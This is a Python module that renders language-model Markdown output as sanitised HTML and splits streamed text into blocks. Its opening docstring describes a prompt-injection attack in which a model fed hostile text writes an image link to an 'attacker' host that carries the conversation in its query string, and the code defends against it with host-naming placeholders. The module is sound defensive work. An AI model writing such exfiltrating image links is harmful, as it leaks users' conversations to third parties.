"""Model output Markdown to safe HTML, and the splitter that lets streaming render each block once.

Rendering happens on the server so the pages need no Markdown or highlighting code.
Everything passes through nh3, whatever markdown-it produced: the text comes from a
model, and a model can be told to write anything.

A model fed hostile text can write `![](https://attacker/?q=<the conversation>)`: an image
the browser fetches as the answer renders leaks the conversation without a click. So a remote
image becomes a placeholder naming its host (the page loads it on request, see messages.js),
and a link whose text is not its own address shows the real host beside it.
"""

from __future__ import annotations

import html
import re
from functools import lru_cache
from urllib.parse import urlsplit

import nh3
from markdown_it import MarkdownIt

HIGHLIGHT_CLASS = "highlight"

_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre", "span",
    "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a", "img",
}  # fmt: skip
_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "pre": {"class"},
    "code": {"class"},
    "span": {"class", "title", "data-src", "data-host", "data-alt"},
}
_LINK_SCHEMES = ("http:", "https:", "mailto:")
_IMAGE_SCHEMES = ("data:image/",)
"""What an `<img>` may load by itself; a remote image is a placeholder's `data-src`."""
_REMOTE_SCHEMES = ("http:", "https:")
REMOTE_IMAGE_CLASS = "remote-image"
LINK_HOST_CLASS = "link-host"


def _allow_url(tag: str, attribute: str, value: str) -> str | None:
    """Links may go to http, https and mailto; images load only `data:image/`; a placeholder
    names an http or https image for the page to load on request."""
    if attribute == "href":
        return value if value.strip().lower().startswith(_LINK_SCHEMES) else None
    if attribute == "src":
        return value if value.strip().lower().startswith(_IMAGE_SCHEMES) else None
    if attribute == "data-src":
        return value if value.strip().lower().startswith(_REMOTE_SCHEMES) else None
    return value


def url_host(url: str) -> str | None:
    """The host (with a port if one is given) a URL really goes to, without any `user@`;
    markdown-it has already written an international name in punycode, so look-alikes show."""
    try:
        parts = urlsplit(url.strip())
        host, port = parts.hostname, parts.port
    except ValueError:
        return None
    if not host:
        return None
    host = f"[{host}]" if ":" in host else host
    return f"{host}:{port}" if port is not None else host


# A table column's alignment (`|:-:|`): markdown-it writes an inline style, which the page's
# Content-Security-Policy (style-src 'self') would refuse, so it becomes one of these classes.
_ALIGN_CLASSES = {"align-left", "align-center", "align-right"}
_ALIGNED_CELL = re.compile(r'<(th|td) style="text-align:(left|center|right)">')

_CLEANER = nh3.Cleaner(
    tags=_TAGS,
    attributes=_ATTRIBUTES,
    tag_attribute_values={"th": {"class": _ALIGN_CLASSES}, "td": {"class": _ALIGN_CLASSES}},
    attribute_filter=_allow_url,
    url_schemes={"http", "https", "mailto", "data"},
    url_relative="deny",
    set_tag_attribute_values={"a": {"target": "_blank"}},
    link_rel="noopener noreferrer nofollow",
)


@lru_cache(maxsize=64)
def _lexer(language: str):
    from pygments.lexers import get_lexer_by_name
    from pygments.util import ClassNotFound

    try:
        return get_lexer_by_name(language)
    except ClassNotFound:
        return None


@lru_cache(maxsize=1)
def _formatter():
    from pygments.formatters import HtmlFormatter

    return HtmlFormatter(nowrap=True)


def _highlight(code: str, language: str, _attrs: str) -> str:
    """A fenced code block as `<pre class="highlight"><code>` with Pygments class spans."""
    from pygments import highlight

    language = re.sub(r"[^\w+#.-]", "", language)[:40]
    lexer = _lexer(language.lower()) if language else None
    body = highlight(code, lexer, _formatter()) if lexer else html.escape(code, quote=False)
    code_class = f' class="language-{language}"' if language else ""
    return f'<pre class="{HIGHLIGHT_CLASS}"><code{code_class}>{body}</code></pre>'


def _image(self, tokens, idx, options, env) -> str:
    """A remote image as an inert placeholder naming its host; `data:` images as they are."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    host = url_host(src) if src.lower().startswith(_REMOTE_SCHEMES) else None
    if host is None:
        return self.image(tokens, idx, options, env)
    alt = self.renderInlineAsText(token.children or [], options, env)
    attrs = {"class": REMOTE_IMAGE_CLASS, "data-src": src, "data-host": host, "data-alt": alt, "title": src}
    quoted = " ".join(f'{name}="{html.escape(value)}"' for name, value in attrs.items())
    label = f"Image from {host} (not loaded)" + (f": {alt}" if alt else "")
    return f"<span {quoted}>{html.escape(label)}</span>"


def _link_close(self, tokens, idx, options, env) -> str:
    """After a link whose text is not its own address, the host it really goes to."""
    start = idx
    while start > 0 and tokens[start].type != "link_open":
        start -= 1
    href = str(tokens[start].attrGet("href") or "")
    text = "".join(t.content for t in tokens[start + 1 : idx] if t.type in ("text", "code_inline")).strip()
    if href.lower().startswith("mailto:"):
        address = href[len("mailto:") :]
        target: str | None = address
        shown_target = text.lower().removeprefix("mailto:")
        same = shown_target == address.lower()
    else:
        target = url_host(href)
        shown = text if "://" in text else f"http://{text}"
        same = bool(text) and not any(c.isspace() for c in text) and url_host(shown) == target
    closing = self.renderToken(tokens, idx, options, env)
    if same or not target:
        return closing
    return f'{closing}<span class="{LINK_HOST_CLASS}"> ({html.escape(target)})</span>'


_MARKDOWN = MarkdownIt("commonmark", {"html": False, "highlight": _highlight}).enable(["table", "strikethrough"])
_MARKDOWN.add_render_rule("image", _image)
_MARKDOWN.add_render_rule("link_close", _link_close)


def render_markdown(text: str) -> str:
    """Model output as sanitised HTML: raw HTML in it is shown as text, never run."""
    return _CLEANER.clean(_ALIGNED_CELL.sub(r'<\1 class="align-\2">', _MARKDOWN.render(text)))


def render_plain(text: str) -> str:
    """What a user typed, escaped, with its line breaks kept."""
    return html.escape(text).replace("\n", "<br>\n")


def highlight_css() -> str:
    """Pygments classes for light pages, and a dark variant under `.dark`."""
    from pygments.formatters import HtmlFormatter

    light = HtmlFormatter(style="default").get_style_defs(f".{HIGHLIGHT_CLASS}")
    dark = HtmlFormatter(style="monokai").get_style_defs(f".dark .{HIGHLIGHT_CLASS}")
    return f"{light}\n{dark}\n"


_FENCE_OPEN = re.compile(r" {0,3}(`{3,}|~{3,})(.*)")
_FENCE_CLOSE = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*\r?")


class BlockSplitter:
    """Splits growing Markdown into finished blocks and the unfinished tail.

    A block is finished when a blank line follows it outside a fenced code block and
    the next line does not start with whitespace (an indented line after a blank one
    still belongs to the list item or code above). The blank lines go with the block
    before them, so the finished blocks plus the tail are always the text fed so far.
    Each call scans only what is new, apart from the tail being kept as a string.
    """

    def __init__(self) -> None:
        self.tail = ""
        self._scanned = 0
        self._fence: tuple[str, int] | None = None
        self._has_content = False
        self._break_at: int | None = None

    def feed(self, text: str) -> list[str]:
        """Add text; returns the sources of the blocks this finished, in order."""
        self.tail += text
        finished: list[str] = []
        while True:
            if self._break_at is not None and len(self.tail) > self._break_at:
                first = self.tail[self._break_at]
                if first in " \t":
                    self._break_at = None
                elif first not in "\r\n":
                    finished.append(self.tail[: self._break_at])
                    self.tail = self.tail[self._break_at :]
                    self._scanned -= self._break_at
                    self._break_at = None
                    self._has_content = False
            end = self.tail.find("\n", self._scanned)
            if end < 0:
                return finished
            line = self.tail[self._scanned : end]
            self._scanned = end + 1
            self._read_line(line)

    def _read_line(self, line: str) -> None:
        if self._fence is not None:
            close = _FENCE_CLOSE.fullmatch(line)
            if close and close.group(1)[0] == self._fence[0] and len(close.group(1)) >= self._fence[1]:
                self._fence = None
            return
        if not line.strip():
            if self._has_content:
                self._break_at = self._scanned
            return
        self._has_content = True
        opening = _FENCE_OPEN.fullmatch(line)
        if opening and not (opening.group(1)[0] == "`" and "`" in opening.group(2)):
            self._fence = (opening.group(1)[0], len(opening.group(1)))
